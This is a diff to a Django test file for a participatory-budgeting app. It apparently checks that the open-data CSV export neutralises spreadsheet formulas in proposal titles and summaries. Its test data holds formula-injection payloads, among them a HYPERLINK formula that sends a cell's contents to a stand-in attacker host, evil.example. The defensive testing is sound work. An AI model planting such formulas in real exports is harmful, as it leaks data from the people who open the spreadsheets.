@@ -12,7 +12,10 @@ from django.core.management import call_command
 
 from pb_module.api.open_data import _cell
 from pb_module.models import Ballot, PBCyclePage, Proposal, ProposalPage
+from pb_module.rules.statuses import Status
 from pb_module.rules.text import csv_safe
+
+from .. import factories as f
 
 FORMULAS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1;"Click")', "+7 701", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1"]
 
@@ -39,10 +42,15 @@ def test_a_cell_of_the_open_data_csv():
 
 
 @pytest.fixture
-def formula_titles(client, db):
-    """Two public proposals (the first two the API lists) whose titles and summaries a spreadsheet would run."""
+def formula_titles(db):
+    """Two public proposals (in discussion, so the API lists them) whose titles and summaries a spreadsheet
+    would run."""
     cache.clear()
-    first, second = [item["id"] for item in client.get("/api/v1/proposals/", {"limit": 2}).json()["results"]]
+    talk = f.cycle(schedule="discussion", title="Fx формулалар", slug="fx-formulas")
+    moderator = f.make_moderator()
+    first, second = (
+        f.ProposalFactory(cycle=talk, status=Status.IN_DISCUSSION, moderator=moderator).pk for _ in range(2)
+    )
     ProposalPage.objects.filter(proposal_id=first).update(title="=1+1", summary="@SUM(A1)")
     ProposalPage.objects.filter(proposal_id=second).update(title="-2+3", summary="\t=cmd")
     yield first, second
